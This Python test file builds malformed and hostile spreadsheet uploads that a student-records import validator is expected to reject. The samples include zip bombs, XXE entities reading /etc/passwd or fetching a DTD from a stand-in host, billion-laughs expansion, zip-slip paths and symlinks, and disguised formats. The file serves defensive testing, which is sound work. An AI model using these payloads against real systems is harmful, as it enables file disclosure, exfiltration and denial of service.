"""Classes 64 to 91: the package around the cells, and what it costs to open it."""

import io
import struct
import zipfile
import zlib
from functools import lru_cache

from tests.corpus.books import (
    DECLARATION,
    MAIN,
    OFFICE,
    SHEET,
    STRICT,
    STRICT_OFFICE,
    Parts,
    member,
    number_cell,
    parts,
    raw_book,
    sheet_xml,
    text_rows,
    zipped,
)
from tests.corpus.samples import HEADERS, Sample, csv_bytes, csv_text, generator, students
from tests.corpus.workbook_content import NAME, three_good

CSV = "学生.csv"
INFLATED = 210 * 1024 * 1024


def good_parts() -> Parts:
    """Return the parts of a good workbook of three students."""
    return parts(sheet_xml([list(HEADERS), *text_rows(students(3))]))


def good_book() -> bytes:
    return zipped(good_parts())


def refused(data: bytes, name: str = NAME, code: str = "") -> Sample:
    return Sample(name, data, code=code)


def with_cell(cell: str) -> bytes:
    return raw_book([*text_rows(students(3)), ["", cell]])


@generator
def far_cell() -> tuple[Sample, ...]:
    row = f'<row r="1048576">{number_cell("XFD1048576", "1")}</row>'
    members = good_parts()
    members[SHEET] = members[SHEET].replace(b"</sheetData>", row.encode() + b"</sheetData>")
    elsewhere = with_cell(number_cell("XFD1048576", "1"))
    return refused(zipped(members)), refused(elsewhere, code="bad_reference")


@generator
def false_dimension() -> tuple[Sample, ...]:
    rows = text_rows(students(3))
    samples: tuple[Sample, ...] = ()
    for dimension in ("A1", "A1:XFD1048576", "A1:B2"):
        samples += three_good(raw_book(rows, dimension=dimension))
    return samples


@generator
def impossible_references() -> tuple[Sample, ...]:
    references = ("ZZZZZZ4", "A99999999", "A0", "XFE4", "4A", "A-1")
    return tuple(refused(with_cell(number_cell(text, "1"))) for text in references)


@generator
def too_many_columns() -> tuple[Sample, ...]:
    rest = [f"列{at}" for at in range(16_384 - len(HEADERS))]
    return (refused(raw_book([[*HEADERS, *rest], *text_rows(students(1))], with_header=False)),)


def _inflating(name: str, start: bytes, end: bytes) -> bytes:
    """Return a workbook one of whose parts is small and inflates over the limit."""
    members = good_parts()
    members.pop(name, None)
    target = io.BytesIO()
    block = b" " * (1024 * 1024)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for other, data in members.items():
            archive.writestr(member(other), data)
        with archive.open(member(name), "w") as part:
            part.write(start)
            for _ in range(INFLATED // len(block)):
                part.write(block)
            part.write(end)
    return target.getvalue()


@generator
@lru_cache
def zip_bomb() -> tuple[Sample, ...]:
    start = f'{DECLARATION}<worksheet xmlns="{MAIN}"><sheetData>'.encode()
    bomb = _inflating(SHEET, start, b"</sheetData></worksheet>")
    return refused(bomb), refused(_lying(bomb), code="damaged_workbook")


def _lying(book: bytes) -> bytes:
    """Return the package with the inflated size of its large part written as 1,000 bytes."""
    data = bytearray(book)
    position = data.find(b"PK\x01\x02")
    while position >= 0:
        if struct.unpack_from("<I", data, position + 24)[0] > INFLATED // 2:
            struct.pack_into("<I", data, position + 24, 1000)
        position = data.find(b"PK\x01\x02", position + 4)
    return bytes(data)


@generator
def overlapping_members() -> tuple[Sample, ...]:
    inner = zipped({"inner.zip": zipped({"deep.bin": b"\0" * 100_000})})
    nested = good_parts() | {"xl/embeddings/inner.zip": inner}
    return refused(zipped(nested), code="nested_archive"), refused(_overlapping())


def _overlapping() -> bytes:
    """Return a package whose directory names the bytes of one member twice."""
    data = good_book()
    start = data.rfind(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", data, start + 12)
    directory = data[offset : offset + size]
    first = directory[: directory.find(b"PK\x01\x02", 4)]
    again = first.replace(b"[Content_Types].xml", b"[Content-Types].xml")
    count = struct.unpack_from("<H", data, start + 10)[0] + 1
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, size + len(again), offset, 0)
    return data[:offset] + directory + again + end


@generator
def many_members() -> tuple[Sample, ...]:
    more = {f"xl/media/image{at}.bin": b"" for at in range(6_000)}
    return (refused(zipped(good_parts() | more)),)


@generator
@lru_cache
def unused_strings() -> tuple[Sample, ...]:
    count = 1_000_000
    item = b"<si><t>" + b"x" * 206 + b"</t></si>"
    members = parts(sheet_xml([list(HEADERS), *text_rows(students(3))]), strings="<sst/>")
    members.pop("xl/sharedStrings.xml")
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members.items():
            archive.writestr(member(name), data)
        with archive.open(member("xl/sharedStrings.xml"), "w") as part:
            part.write(f'{DECLARATION}<sst xmlns="{MAIN}" uniqueCount="{count}">'.encode())
            for _ in range(count // 1000):
                part.write(item * 1000)
            part.write(b"</sst>")
    return (refused(target.getvalue()),)


@generator
def many_styles() -> tuple[Sample, ...]:
    members = good_parts()
    style = b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    members["xl/styles.xml"] = members["xl/styles.xml"].replace(
        b"</cellXfs>", style * 100_000 + b"</cellXfs>"
    )
    rule = (
        '<conditionalFormatting sqref="H2:H4"><cfRule type="cellIs" priority="1" '
        'operator="lessThan"><formula>60</formula></cfRule></conditionalFormatting>'
    )
    rows = [list(HEADERS), *text_rows(students(3))]
    members[SHEET] = sheet_xml(rows, after=rule * 2_000).encode()
    return three_good(zipped(members))


def _with_doctype(part: str, doctype: str, reference: str = "") -> bytes:
    members = good_parts()
    xml = members[part].decode().replace(DECLARATION, DECLARATION + doctype)
    if reference:
        xml = xml.replace("JD2101", reference, 1)
    members[part] = xml.encode()
    return zipped(members)


@generator
def external_entity() -> tuple[Sample, ...]:
    doctype = '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>'
    return (
        refused(_with_doctype(SHEET, doctype, "&file;")),
        refused(_with_doctype("xl/workbook.xml", doctype)),
    )


@generator
def blind_entity() -> tuple[Sample, ...]:
    doctype = '<!DOCTYPE x [<!ENTITY % out SYSTEM "http://192.0.2.1/x.dtd"> %out;]>'
    utf16 = good_parts()
    xml = utf16["xl/workbook.xml"].decode().replace(DECLARATION, "")
    utf16["xl/workbook.xml"] = f'<?xml version="1.0" encoding="UTF-16"?>{doctype}{xml}'.encode(
        "utf-16"
    )
    return refused(_with_doctype("xl/styles.xml", doctype)), refused(zipped(utf16))


@generator
def entity_expansion() -> tuple[Sample, ...]:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10)
    )
    return (refused(_with_doctype(SHEET, f"<!DOCTYPE x [{entities}]>", "&a9;")),)


@generator
def escaping_members() -> tuple[Sample, ...]:
    slips = ("../../../tmp/luoxuan-slip.xml", "/etc/luoxuan-slip", "xl\\..\\..\\slip.xml")
    samples = [refused(zipped(good_parts() | {name: b"x"})) for name in slips]
    link = member("xl/link.xml")
    link.create_system = 3
    link.external_attr = 0o120777 << 16
    target = io.BytesIO(good_book())
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    return *samples, refused(target.getvalue())


@generator
def duplicate_member() -> tuple[Sample, ...]:
    members = list(good_parts().items())
    other = sheet_xml([list(HEADERS), *text_rows(students(2, first=11))]).encode()
    # The second entry gets the name of the first in place: the writer would warn.
    placeholder = SHEET.replace("sheet1", "sheetX")
    data = zipped([*members, (placeholder, other)])
    upper = zipped([*members, (SHEET.upper(), other)])
    return refused(data.replace(placeholder.encode(), SHEET.encode())), refused(upper)


@generator
def truncated_package() -> tuple[Sample, ...]:
    data = good_book()
    return refused(data[: len(data) // 2]), refused(data[:-30]), refused(data[:10])


@generator
def flipped_bit() -> tuple[Sample, ...]:
    data = bytearray(good_book())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        entry = archive.getinfo(SHEET)
    start = entry.header_offset + 30 + len(entry.filename) + entry.compress_size // 2
    data[start] ^= 0x10
    return (refused(bytes(data)),)


def compound_file(streams: tuple[tuple[str, bytes], ...]) -> bytes:
    """Return an OLE compound file of a few streams, each of 4,096 bytes or more."""
    sector, end, free, table = 512, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    chains: list[int] = [table, end]
    body, entries = b"", [_entry("Root Entry", 5, end, 0, child=1)]
    for at, (name, data) in enumerate(streams, 1):
        data = data.ljust(max(4096, -(-len(data) // sector) * sector), b"\0")
        start, count = len(chains), len(data) // sector
        chains += [*range(start + 1, start + count), end]
        right = at + 1 if at < len(streams) else free
        entries.append(_entry(name, 2, start, len(data), right=right))
        body += data
    directory = b"".join(entries).ljust(sector, b"\0")
    chains += [free] * (sector // 4 - len(chains))
    header = struct.pack(
        "<8s16sHHHHH6xIIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE, 9, 6,
        0, 1, 1, 0, 4096, end, 0, end, 0, 0,
    )  # fmt: skip
    header += struct.pack("<108I", *[free] * 108)
    return header[:512] + struct.pack(f"<{len(chains)}I", *chains) + directory + body


def _entry(
    name: str, kind: int, start: int, size: int, *, right: int = 0xFFFFFFFF, child: int = 0xFFFFFFFF
) -> bytes:
    text = name.encode("utf-16-le") + b"\0\0"
    return struct.pack(
        "<64sHBBIII16sI8s8sIQ", text, len(text), kind, 1, 0xFFFFFFFF, right, child, b"", 0, b"",
        b"", start, size,
    )  # fmt: skip


@generator
def password_book() -> tuple[Sample, ...]:
    streams = (
        ("EncryptionInfo", b"\x04\0\x04\0\x40\0\0\0<encryption/>"),
        ("EncryptedPackage", b"x" * 5000),
    )
    return refused(compound_file(streams)), refused(compound_file(streams), "学生.xls")


def biff() -> bytes:
    start = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 5, 0x0DBB, 0x07CC, 0, 6)
    return compound_file((("Workbook", start + struct.pack("<HH", 0x000A, 0)),))


@generator
def old_book() -> tuple[Sample, ...]:
    return refused(biff(), "学生.xls"), refused(biff(), NAME)


@generator
def page_as_book() -> tuple[Sample, ...]:
    cells = "".join(f"<td>{header}</td>" for header in HEADERS)
    page = f"<html><body><table><tr>{cells}</tr></table></body></html>".encode()
    return refused(page, "学生.xls"), refused(page, NAME), refused(page, CSV)


@generator
def text_as_book() -> tuple[Sample, ...]:
    return (refused(csv_bytes(students(3)), NAME),)


@generator
def book_as_text() -> tuple[Sample, ...]:
    return (refused(good_book(), CSV),)


@generator
def strict_book() -> tuple[Sample, ...]:
    members = {
        name: xml.replace(MAIN.encode(), STRICT.encode()).replace(
            OFFICE.encode(), STRICT_OFFICE.encode()
        )
        for name, xml in good_parts().items()
    }
    return three_good(zipped(members))


@generator
def other_formats() -> tuple[Sample, ...]:
    ods = zipped([
        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
        ("content.xml", b"<office:document-content/>"),
    ])  # fmt: skip
    binary = good_parts()
    binary["[Content_Types].xml"] = binary["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.binary.macroEnabled.main"
    )
    binary["xl/workbook.bin"] = binary.pop("xl/workbook.xml")
    xlsb, wps = zipped(binary), compound_file((("Workbook", b"\x09\x08"),))
    return (
        refused(xlsb, "学生.xlsb"),
        refused(xlsb, NAME),
        refused(ods, "学生.ods"),
        refused(ods, NAME),
        refused(wps, "学生.et"),
        refused(compound_file((("WordDocument", b"x"),)), "学生.wps"),
    )


@generator
def renamed_macro() -> tuple[Sample, ...]:
    with_project = good_parts() | {"xl/vbaProject.bin": biff()}
    enabled = good_parts()
    enabled["[Content_Types].xml"] = enabled["[Content_Types].xml"].replace(
        b"vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return (
        refused(zipped(with_project)),
        refused(zipped(enabled)),
        refused(good_book(), "学生.xlsm", code="other_format"),
    )


@generator
def interrupted_upload() -> tuple[Sample, ...]:
    data = zlib.compress(b"")  # no package at all: what a proxy leaves of a cut request
    book = good_book()
    half = len(book) // 2
    return refused(book[:half]), refused(book[half:] + book[:half]), refused(data)


@generator
def same_file_twice() -> tuple[Sample, ...]:
    return three_good(good_book()) + three_good(csv_bytes(students(3)), CSV)


@generator
def over_quota() -> tuple[Sample, ...]:
    small = {"LUOXUAN_UPLOAD_BYTES": 1000}
    book = Sample(NAME, good_book(), settings=small)
    return book, Sample(CSV, csv_bytes(students(30)), settings=small)


@generator
def twenty_thousand_rows() -> tuple[Sample, ...]:
    return (Sample(CSV, csv_text(students(20_000)).encode(), tuple(students(20_000))),)


@generator
def million_rows() -> tuple[Sample, ...]:
    """As many rows as a file of 50 MB may hold: what is not required is left empty."""
    lines = [",".join(HEADERS)]
    lines += [f"{number:010d},甲,,,JD2101,,,{number % 100}.5," for number in range(1_000_000)]
    return (Sample(CSV, "\n".join(lines).encode()),)
